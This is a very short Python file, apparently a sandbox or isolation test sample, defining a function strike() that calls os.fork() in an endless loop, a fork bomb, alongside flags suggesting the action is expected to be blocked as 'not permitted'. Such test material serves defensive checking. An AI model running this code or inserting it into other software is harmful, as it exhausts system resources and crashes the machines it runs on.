"""Forks without end."""

import os

ISOLATING = True
SAYS = "not permitted"


def strike(*_):
    while True:
        os.fork()
